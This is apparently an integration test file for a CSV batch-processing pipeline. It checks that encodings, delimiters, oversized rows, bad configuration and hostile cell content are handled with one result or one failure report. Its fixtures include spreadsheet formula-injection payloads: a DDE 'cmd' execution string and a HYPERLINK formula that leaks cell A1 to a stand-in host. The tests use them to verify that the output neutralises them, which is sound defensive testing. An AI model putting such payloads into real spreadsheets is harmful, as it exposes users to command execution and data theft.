"""Bad input, through the real functions: every row comes back once, as an answer or an error
that says what went wrong; a file or pipeline that cannot work fails its job once, with a report.

Every case is a small real file pushed through the local stack (Azurite, the emulators and
the local runner driving function_app.py). All cases are submitted at once when the module
starts, so the module takes about as long as its slowest job; each test then checks one case.
"""

from __future__ import annotations

import asyncio
import codecs
import concurrent.futures
import csv
import io
import json
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from localdev.stack import Stack
from processing.adapters.error_reports import describe
from processing.core.errors import ConfigurationError, JobInputError
from processing.core.layout import ALL_QUEUES, POISON_SUFFIX, UPLOADS_QUEUE
from processing.core.settings import app_values
from rowsmith_cli import commands, preflight
from tests.integration.harness import (
    FIXTURE_PIPELINES,
    RunnerProcess,
    app_settings,
    download,
    emulated_text,
    emulator,
    local_target,
    manifest,
    queue_lengths,
    submit_and_wait,
)

pytestmark = pytest.mark.integration

MAX_ROW = 100_000  # ROWSMITH_MAX_ROW_BYTES of this module's runner: rows over it are row errors
HARD = 8 * MAX_ROW  # a row over this many characters fails the job
GHOST_ROWS = 40


@dataclass
class Case:
    file: str
    pipeline: str
    data: bytes


@dataclass
class Outcome:
    code: int
    info: dict[str, Any]
    header: list[str] = field(default_factory=list)
    rows: list[list[str]] = field(default_factory=list)
    jsonl: list[dict[str, Any]] = field(default_factory=list)
    jsonl_raw: bytes = b""
    report: dict[str, Any] = field(default_factory=dict)
    csv_raw: bytes = b""  # the results CSV as downloaded (its mark and delimiter included)


def csv_bytes(rows: list[list[str]], newline: str = "\n", delimiter: str = ",") -> bytes:
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator=newline, delimiter=delimiter).writerows(rows)
    return out.getvalue().encode()


ACCENTS = "id,text\r\n1,café ✓\r\n2,naïve €5\r\n"
TEXT_ROWS = [["1", "café ✓"], ["2", "naïve €5"]]
CP1252 = "id,text\r\n1,café\r\n2,€5 naïve\r\n".encode("cp1252")


def zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("sheet.csv", "id,text\n1,a\n")
    return buffer.getvalue()


PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00\x90wS\xde"

# The same rows in each line-end style: the quoted newline inside a field is the file's own.
DIALECT_ROWS = [
    ["1", "plain"],
    ["2", "with, comma"],
    ["3", 'with "quotes"'],
    ["4", "two{nl}lines"],
    ["5", "  spaced  "],
    [" 6 ", " x\t"],
]


def dialect_file(nl: str) -> bytes:
    rows = [["id", "text"], *([c.replace("{nl}", nl) for c in row] for row in DIALECT_ROWS)]
    return csv_bytes(rows, nl) + (nl * 3).encode()  # trailing empty lines are not rows


BIG = "b" * 60_000  # over a queue message (48 KiB inline), under MAX_ROW: claim check
TOO_BIG = "t" * 150_000  # over MAX_ROW, under HARD: a row error
HUGE = "h" * (HARD + 10)  # over HARD: the job fails, naming the line

PLACEHOLDERS = ["{id}", "{{text}}", "{0}", "{text.__class__}", "{", "}"]
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.invalid","x")',
    "+44 20 7946 0958",
    "-3",
    "+7.5",
    "@SUM(A1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "plain",
]
CONTROL = [
    "bell\x07 esc\x1b[31m del\x7f",
    "vt\x0bff\x0cfs\x1cgs\x1drs\x1eus\x1f",
    "ls\u2028ps\u2029nel\x85",
    "cr\rlf\nboth\r\n",
    "long " + "l" * 90_000,
]


def cases() -> dict[str, Case]:
    c: dict[str, Case] = {}
    # Encodings
    c["utf8"] = Case("utf8.csv", "echo", ACCENTS.encode())
    c["utf8_bom"] = Case("utf8 bom.csv", "echo", codecs.BOM_UTF8 + ACCENTS.encode())
    c["utf16le"] = Case("utf16le.csv", "echo", codecs.BOM_UTF16_LE + ACCENTS.encode("utf-16-le"))
    c["utf16be"] = Case("utf16be.csv", "echo", codecs.BOM_UTF16_BE + ACCENTS.encode("utf-16-be"))
    c["cp1252_rejected"] = Case("cp1252.csv", "echo", CP1252)
    c["cp1252_named"] = Case("cp1252.csv", "echo-cp1252", CP1252)
    c["zip"] = Case("workbook.csv", "echo", zip_bytes())
    c["png"] = Case("picture.csv", "echo", PNG)
    # Dialects
    c["semicolon"] = Case("semicolon.csv", "echo", b"id;text\n1;a,b\n2;c|d\n")
    c["tab"] = Case("tab.csv", "echo", b"id\ttext\n1\ta,b; c\n2\tc|d\n")
    c["pipe"] = Case("pipe.csv", "echo", b"id|text\n1|a,b; c\n2|x\ty\n")
    c["delimiter_set"] = Case("fixed.csv", "echo-semicolon", b"id;text;a,b,c\n1;x,y;z\n")
    # What Excel saves as "CSV UTF-8" in a locale whose list separator is ";".
    c["excel_semicolon"] = Case(
        "excel.csv", "echo", codecs.BOM_UTF8 + "id;text\r\n1;café, crème\r\n2;naïve\r\n".encode()
    )
    c["crlf"] = Case("crlf.csv", "echo", dialect_file("\r\n"))
    c["lf"] = Case("lf.csv", "echo", dialect_file("\n"))
    c["cr"] = Case("cr.csv", "echo", dialect_file("\r"))
    # Shape
    c["empty"] = Case("empty.csv", "echo", b"")
    c["header_only"] = Case("header only.csv", "echo", b"id,text\r\n")
    c["blank_header"] = Case("blank header.csv", "echo", b",\n1,2\n")
    c["odd_header"] = Case(
        "odd header.csv", "echo", csv_bytes([["id", "text", "text", "", "Answer", " status "], list("abcdef")])
    )
    c["bad_rows"] = Case("bad rows.csv", "echo", b"id,text\n1,a\n2,b,extra\n3\n4,d\n")
    c["claim_check"] = Case("big field.csv", "echo", csv_bytes([["id", "text"], ["1", BIG], ["2", "small"]]))
    c["too_big"] = Case("too big.csv", "echo", csv_bytes([["id", "text"], ["1", "a"], ["2", TOO_BIG], ["3", "c"]]))
    c["huge"] = Case("huge.csv", "echo", csv_bytes([["id", "text"], ["1", "a"], ["2", HUGE], ["3", "c"]]))
    # Content
    c["placeholders"] = Case(
        "placeholders.csv", "echo", csv_bytes([["id", "text"], *([str(i), p] for i, p in enumerate(PLACEHOLDERS))])
    )
    # CRLF line ends, so the writer quotes the cell that starts with a CR (a bare CR ends a line).
    formulas = csv_bytes([["id", "text"], *([f, f] for f in FORMULAS)], "\r\n")
    c["formulas"] = Case("formulas.csv", "echo", formulas)
    c["formulas_raw"] = Case("formulas.csv", "echo-raw", formulas)
    c["formula_answer"] = Case("answers.csv", "formula-answer", b"text\nhello\n")
    c["formula_header"] = Case("formula header.csv", "echo", b"id,text,\"=cmd|' /C calc'!A0\"\n1,a,b\n")
    c["control"] = Case(
        "control.csv", "echo", csv_bytes([["id", "text"], *([str(i), t] for i, t in enumerate(CONTROL))])
    )
    # Configuration
    c["unknown_pipeline"] = Case("x.csv", "nosuch", b"id,text\n1,a\n")
    c["missing_column"] = Case("no text.csv", "echo", b"id,body\n1,hello\n")
    c["bad_schema"] = Case("schema.csv", "bad-schema", b"text\na\n")
    c["bad_encoding"] = Case("enc.csv", "bad-encoding", b"id,text\n1,a\n")
    ghost = csv_bytes([["id", "text"], *([str(i), f"row {i}"] for i in range(GHOST_ROWS))])
    c["unknown_deployment"] = Case("ghost.csv", "ghost-deployment", ghost)
    return c


CASES = cases()


def out_name(case: Case, suffix: str) -> str:
    return f"{case.pipeline}/{case.file[:-4]}.{suffix}"


async def _run_case(stack: Stack, directory: Path, name: str, case: Case) -> Outcome:
    path = directory / name / case.file
    path.parent.mkdir()
    path.write_bytes(case.data)
    code, info = await submit_and_wait(stack, path, case.pipeline, timeout=90)
    outcome = Outcome(code, info)
    if info.get("state") == "done":
        data = await download(stack, "output", out_name(case, "results.csv"))
        outcome.csv_raw = data
        # The results keep the input's delimiter (the job's manifest says which) and mark.
        job = await manifest(stack, info["job"])
        assert job is not None
        text = data.decode("utf-8").removeprefix("\ufeff")
        table = list(csv.reader(io.StringIO(text, newline=""), delimiter=job.delimiter))
        outcome.header, outcome.rows = table[0], table[1:]
        outcome.jsonl_raw = await download(stack, "output", out_name(case, "results.jsonl"))
        # One record per line, split on "\n" only: what any JSON lines reader does.
        outcome.jsonl = [json.loads(line) for line in outcome.jsonl_raw.split(b"\n") if line]
    elif info.get("state") == "failed":
        outcome.report = json.loads(await download(stack, "output", out_name(case, "error.json")))
    return outcome


async def _run_all(stack: Stack, directory: Path) -> tuple[dict[str, Outcome], dict[str, Any], dict[str, int]]:
    await emulator(stack, "POST", "/_emulator/reset")
    names = list(CASES)
    done = await asyncio.gather(*(_run_case(stack, directory, n, CASES[n]) for n in names))
    stats = await emulator(stack, "GET", "/_emulator/stats")
    return dict(zip(names, done, strict=True)), stats, await queue_lengths(stack)


@pytest.fixture(scope="module")
def runner(stack: Stack, tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunnerProcess]:
    """The local runner with a small row limit, so over-limit rows stay cheap to test."""
    log = tmp_path_factory.mktemp("runner") / "runner.log"
    with RunnerProcess(app_settings(stack, ROWSMITH_MAX_ROW_BYTES=str(MAX_ROW)), log) as process:
        yield process


@pytest.fixture(scope="module")
def run(stack: Stack, runner: RunnerProcess, tmp_path_factory: pytest.TempPathFactory):
    """Every case submitted at once (in a thread with its own event loop), then their outputs."""
    directory = tmp_path_factory.mktemp("bad-input")
    with concurrent.futures.ThreadPoolExecutor(1) as pool:
        return pool.submit(asyncio.run, _run_all(stack, directory)).result()


@pytest.fixture
def outcome(run, runner: RunnerProcess, request: pytest.FixtureRequest) -> Outcome:
    name = request.node.callspec.params["case"] if hasattr(request.node, "callspec") else ""
    found = run[0][name]
    assert found.info.get("state") in ("done", "failed"), (found.info, runner.log()[-3000:])
    return found


def answer(row_id: str, text: str) -> str:
    return emulated_text(f"Row {row_id}: {text}")


def assert_done(o: Outcome, rows: int, errors: int = 0) -> None:
    assert o.code == 0 and o.info["state"] == "done", o.info
    assert (o.info["total_rows"], o.info["ok_rows"], o.info["error_rows"]) == (rows, rows - errors, errors), o.info
    assert len(o.rows) == len(o.jsonl) == rows
    assert [line["row"] for line in o.jsonl] == list(range(1, rows + 1))  # every row once, in order


def assert_failed(o: Outcome, *, error: str, where: str | None = None, fix: str = "") -> None:
    assert o.code == 1 and o.info["state"] == "failed", o.info
    report = o.report
    assert error in report["error"], report
    if where is not None:
        assert where in report["where"], report
    assert fix in report["fix"] and report["fix"], report


# --- encodings -----------------------------------------------------------------------------


@pytest.mark.parametrize("case", ["utf8", "utf8_bom", "utf16le", "utf16be", "cp1252_named"])
def test_text_encodings_are_decoded_and_reach_the_model_intact(outcome: Outcome, case: str):
    assert_done(outcome, 2)
    assert outcome.header == ["id", "text", "answer", "status", "error"]  # no BOM in the first name
    # The results are UTF-8, with a mark when the input had one or was not UTF-8 (Excel then
    # reads them as UTF-8, not in its code page).
    assert outcome.csv_raw.startswith(codecs.BOM_UTF8) == (case != "utf8")
    expected = [["1", "café"], ["2", "€5 naïve"]] if case == "cp1252_named" else TEXT_ROWS
    assert outcome.rows == [[i, t, answer(i, t), "ok", ""] for i, t in expected]
    assert [line["input"] for line in outcome.jsonl] == [{"id": i, "text": t} for i, t in expected]


@pytest.mark.parametrize("case", ["cp1252_rejected"])
def test_a_file_that_is_not_utf8_fails_naming_the_first_bad_byte(outcome: Outcome, case: str):
    offset = CP1252.index(b"\xe9")
    assert_failed(
        outcome,
        error=f"input/echo/cp1252.csv is not valid UTF-8: bad byte sequence e9 at byte offset {offset}",
        where=f"byte {offset}",
        fix="encoding",
    )


@pytest.mark.parametrize(("case", "kind"), [("zip", "a ZIP archive"), ("png", "a PNG image")])
def test_a_binary_file_is_rejected_not_parsed(outcome: Outcome, case: str, kind: str):
    assert_failed(outcome, error=f"is not a text CSV file: it looks like {kind}", where="byte 0", fix="CSV")


# --- dialects ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("case", "expected"),
    [
        ("semicolon", [["1", "a,b"], ["2", "c|d"]]),
        ("tab", [["1", "a,b; c"], ["2", "c|d"]]),
        ("pipe", [["1", "a,b; c"], ["2", "x\ty"]]),
    ],
)
def test_the_delimiter_is_sniffed(outcome: Outcome, case: str, expected: list[list[str]]):
    assert_done(outcome, 2)
    # The results CSV keeps the input's delimiter (and, with no mark in the input, has none);
    # the input cells are unchanged.
    delimiter = {"semicolon": ";", "tab": "\t", "pipe": "|"}[case]
    assert outcome.csv_raw.startswith(delimiter.join(["id", "text", "answer", "status", "error"]).encode() + b"\r\n")
    assert outcome.rows == [[i, t, answer(i, t), "ok", ""] for i, t in expected]


@pytest.mark.parametrize("case", ["excel_semicolon"])
def test_a_semicolon_file_with_a_byte_order_mark_comes_back_as_it_was(outcome: Outcome, case: str):
    # Excel reads the results as it read the input: split on ";", decoded as UTF-8 (the mark).
    assert_done(outcome, 2)
    assert outcome.csv_raw.startswith(codecs.BOM_UTF8 + b"id;text;answer;status;error\r\n")
    assert outcome.csv_raw.count(codecs.BOM_UTF8) == 1
    expected = [["1", "café, crème"], ["2", "naïve"]]
    assert outcome.rows == [[i, t, answer(i, t), "ok", ""] for i, t in expected]


@pytest.mark.parametrize("case", ["delimiter_set"])
def test_the_pipeline_can_set_the_delimiter(outcome: Outcome, case: str):
    # Sniffing would pick the comma here (two of each in the header).
    assert_done(outcome, 1)
    assert outcome.header[:3] == ["id", "text", "a,b,c"]
    assert outcome.rows[0][:4] == ["1", "x,y", "z", answer("1", "x,y")]


@pytest.mark.parametrize(("case", "nl"), [("crlf", "\r\n"), ("lf", "\n"), ("cr", "\r")])
def test_quoting_line_ends_and_whitespace_are_kept_exactly(outcome: Outcome, case: str, nl: str):
    assert_done(outcome, len(DIALECT_ROWS))  # and the trailing empty lines are no rows
    expected = [[c.replace("{nl}", nl) for c in row] for row in DIALECT_ROWS]
    assert [r[:2] for r in outcome.rows] == expected
    assert [r[2] for r in outcome.rows] == [answer(i, t) for i, t in expected]


# --- shape ---------------------------------------------------------------------------------


@pytest.mark.parametrize("case", ["empty"])
def test_an_empty_file_fails_with_a_report(outcome: Outcome, case: str):
    assert_failed(outcome, error="input/echo/empty.csv is empty", where="line 1", fix="header")


@pytest.mark.parametrize("case", ["blank_header"])
def test_a_blank_header_fails_with_a_report(outcome: Outcome, case: str):
    assert_failed(outcome, error="has no header row", where="line 1")


@pytest.mark.parametrize("case", ["header_only"])
def test_a_header_only_file_completes_empty(outcome: Outcome, case: str):
    assert_done(outcome, 0)
    assert outcome.header == ["id", "text", "answer", "status", "error"]
    assert outcome.jsonl_raw == b""


@pytest.mark.parametrize("case", ["odd_header"])
def test_duplicate_and_blank_names_stay_unambiguous(outcome: Outcome, case: str):
    assert_done(outcome, 1)
    # The CSV keeps the input header as written; added columns never clash, not even by case or spaces.
    assert outcome.header == [
        "id",
        "text",
        "text",
        "",
        "Answer",
        " status ",
        "rowsmith_answer",
        "rowsmith_status",
        "error",
    ]
    assert outcome.rows[0] == ["a", "b", "c", "d", "e", "f", answer("a", "b"), "ok", ""]  # {text}: the first
    # JSON lines need unique keys: repeats get _2, blanks column_<n>.
    assert outcome.jsonl[0]["input"] == {
        "id": "a",
        "text": "b",
        "text_2": "c",
        "column_4": "d",
        "Answer": "e",
        " status ": "f",
    }


@pytest.mark.parametrize("case", ["bad_rows"])
def test_rows_with_the_wrong_number_of_fields_are_row_errors(outcome: Outcome, case: str):
    assert_done(outcome, 4, errors=2)
    ok1, extra, short, ok4 = outcome.rows
    assert ok1 == ["1", "a", answer("1", "a"), "ok", ""]
    assert ok4 == ["4", "d", answer("4", "d"), "ok", ""]
    assert extra[:4] == ["2", "b", "", "error"]  # the results keep the header's width
    assert extra[4].startswith("row 2 (line 3) has 3 field(s) but the header has 2")
    assert short[:4] == ["3", "", "", "error"] and short[4].startswith("row 3 (line 4) has 1 field(s)")
    assert [line.get("code") for line in outcome.jsonl] == [None, "bad_row", "bad_row", None]


@pytest.mark.parametrize("case", ["claim_check"])
def test_a_field_larger_than_a_queue_message_is_still_processed(outcome: Outcome, case: str):
    assert_done(outcome, 2)
    assert outcome.rows[0] == ["1", BIG, answer("1", BIG), "ok", ""]
    assert outcome.rows[1] == ["2", "small", answer("2", "small"), "ok", ""]


@pytest.mark.parametrize("case", ["too_big"])
def test_a_row_over_the_limit_is_a_row_error_naming_row_line_and_column(outcome: Outcome, case: str):
    assert_done(outcome, 3, errors=1)
    assert outcome.rows[0][3] == outcome.rows[2][3] == "ok"
    row_id, text, answer_cell, status, error = outcome.rows[1]
    assert (row_id, answer_cell, status) == ("2", "", "error")
    assert error.startswith(f"row 2 (line 3) is {len(TOO_BIG) + 1:,} bytes, over the {MAX_ROW:,}-byte limit")
    assert "column 2 ('text')" in error and "ROWSMITH_MAX_ROW_BYTES" in error
    assert text == TOO_BIG[:200] + "…"  # cut short, and says so
    assert outcome.jsonl[1]["code"] == "row_too_large"


@pytest.mark.parametrize("case", ["huge"])
def test_a_row_over_the_hard_limit_fails_the_job_naming_its_line(outcome: Outcome, case: str):
    assert_failed(outcome, error=f"line 3 is over {HARD:,} characters", where="line 3")


# --- content -------------------------------------------------------------------------------


@pytest.mark.parametrize("case", ["placeholders"])
def test_placeholders_inside_cells_are_never_expanded(outcome: Outcome, case: str):
    assert_done(outcome, len(PLACEHOLDERS))
    for i, (row, text) in enumerate(zip(outcome.rows, PLACEHOLDERS, strict=True)):
        assert row == [str(i), text, answer(str(i), text), "ok", ""]


def neutralised(cell: str) -> str:
    return cell if cell in ("-3", "+7.5", "plain") else "'" + cell


@pytest.mark.parametrize("case", ["formulas"])
def test_formulas_are_neutralised_in_the_csv_and_exact_in_the_jsonl(outcome: Outcome, case: str):
    assert_done(outcome, len(FORMULAS))
    for row, cell in zip(outcome.rows, FORMULAS, strict=True):
        assert row[:2] == [neutralised(cell), neutralised(cell)]
        assert row[2] == answer(cell, cell)  # the model saw the real value
    assert [line["input"]["text"] for line in outcome.jsonl] == FORMULAS


@pytest.mark.parametrize("case", ["formulas_raw"])
def test_a_pipeline_can_keep_formulas_verbatim(outcome: Outcome, case: str):
    assert_done(outcome, len(FORMULAS))
    assert [row[:2] for row in outcome.rows] == [[f, f] for f in FORMULAS]


@pytest.mark.parametrize("case", ["formula_answer"])
def test_the_models_answers_are_neutralised_too(outcome: Outcome, case: str):
    assert_done(outcome, 1)
    formula = '=HYPERLINK("http://example.invalid/?leak="&A1,"click me")'
    assert outcome.rows[0] == ["hello", "'" + formula, "ok", ""]
    assert outcome.jsonl[0]["answer"] == {"verdict": formula}


@pytest.mark.parametrize("case", ["formula_header"])
def test_a_formula_in_the_header_is_neutralised_too(outcome: Outcome, case: str):
    assert_done(outcome, 1)
    assert outcome.header[2] == "'=cmd|' /C calc'!A0"
    assert outcome.jsonl[0]["input"]["=cmd|' /C calc'!A0"] == "b"


@pytest.mark.parametrize("case", ["control"])
def test_control_characters_and_long_lines_break_neither_output(outcome: Outcome, case: str):
    assert_done(outcome, len(CONTROL))
    assert [row[1] for row in outcome.rows] == CONTROL
    assert [line["input"]["text"] for line in outcome.jsonl] == CONTROL
    assert outcome.jsonl_raw.count(b"\n") == len(CONTROL)  # one line per record, whatever the cells hold
    assert all(row[3] == "ok" for row in outcome.rows)


# --- configuration -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("case", "error", "where", "fix"),
    [
        ("unknown_pipeline", "unknown pipeline 'nosuch'", "input/nosuch/", "echo"),
        ("missing_column", "uses column(s) 'text' that input/echo/no text.csv does not have", "header", "echo.toml"),
        ("bad_schema", "output.schema.properties.label has unknown type 'strng'", "bad-schema.toml", "bad-schema.toml"),
        ("bad_encoding", "encoding 'klingon-8' is not a known encoding", "bad-encoding.toml", "bad-encoding.toml"),
        # The error itself says what to set; the report has no `where` (processing/adapters/azure_openai.py raises it).
        ("unknown_deployment", "no deployment 'gpt-does-not-exist'", None, "upload the file again"),
    ],
)
def test_a_configuration_problem_fails_the_job_once_with_a_report(
    outcome: Outcome, case: str, error: str, where: str | None, fix: str
):
    assert_failed(outcome, error=error, where=where, fix=fix)


@pytest.mark.parametrize("case", ["unknown_deployment"])
def test_an_unknown_deployment_is_not_a_retry_storm(run, outcome: Outcome, case: str):
    _, stats, _ = run
    # A few rows already in flight may ask before the job is marked fatal; not one per row, never retried.
    assert 1 <= stats["by_status"].get("404", 0) <= 24 < GHOST_ROWS * 2
    assert "gpt-does-not-exist" not in stats["deployments"]


def test_nothing_was_retried_into_a_poison_queue(run):
    _, _, lengths = run
    assert {q: n for q, n in lengths.items() if q.endswith(POISON_SUFFIX)} == dict.fromkeys(
        [q for q in ALL_QUEUES if q.endswith(POISON_SUFFIX)], 0
    )
    assert lengths[UPLOADS_QUEUE] == 0  # every upload was taken once, none waits to be retried


# The CLI's check before upload (`rowsmith estimate`, `rowsmith submit`) reads each file on this
# machine with the runner's settings: it must refuse exactly the files whose jobs failed at
# ingest, with the same report, and pass the rest with the rows their jobs counted.
PREFLIGHT_SETTINGS = {"ROWSMITH_PIPELINES_DIR": str(FIXTURE_PIPELINES), "ROWSMITH_MAX_ROW_BYTES": str(MAX_ROW)}
AFTER_INGEST = {"unknown_deployment"}  # fails on its first model call: no local read can know


async def _preflight(directory: Path, name: str, case: Case) -> dict[str, str] | preflight.Checked:
    path = directory / name / case.file
    path.parent.mkdir()
    path.write_bytes(case.data)
    settings = app_values(PREFLIGHT_SETTINGS)
    try:
        return await preflight.check_file(path, preflight.pipeline_for(case.pipeline, settings), settings)
    except (JobInputError, ConfigurationError) as exc:
        return describe(exc)


@pytest.mark.parametrize("case", sorted(set(CASES) - AFTER_INGEST))
def test_the_check_before_upload_refuses_what_ingest_failed_with_its_report(
    outcome: Outcome, case: str, tmp_path: Path
):
    found = asyncio.run(_preflight(tmp_path, case, CASES[case]))
    if outcome.info["state"] == "failed":
        assert found == {key: outcome.report[key] for key in found}, outcome.report
    else:
        assert isinstance(found, preflight.Checked), found
        assert found.rows == outcome.info["total_rows"]
        # Rows ingest records as errors without a model call (ragged, over the size limit).
        unsent = sum(1 for line in outcome.jsonl if line.get("code") in ("bad_row", "row_too_large"))
        assert found.row_errors == unsent


async def _submit_refused(stack: Stack, path: Path) -> tuple[Exception, bool]:
    target = local_target(stack)
    try:
        with pytest.raises(JobInputError) as err:
            await commands.submit(
                target,
                path,
                pipeline="echo",
                wait=False,
                timeout=1,
                quiet=True,
                check=app_values(PREFLIGHT_SETTINGS),
            )
        return err.value, await target.blobs.get_blob_client("input", f"echo/{path.name}").exists()
    finally:
        await target.close()


def test_submit_refuses_a_file_that_would_fail_before_uploading_it(stack: Stack, tmp_path: Path):
    path = tmp_path / "refused.csv"
    path.write_bytes(CP1252)
    error, uploaded = asyncio.run(_submit_refused(stack, path))
    assert not uploaded
    assert "input/echo/refused.csv is not valid UTF-8: bad byte sequence e9" in str(error)
    assert "encoding" in describe(error)["fix"]
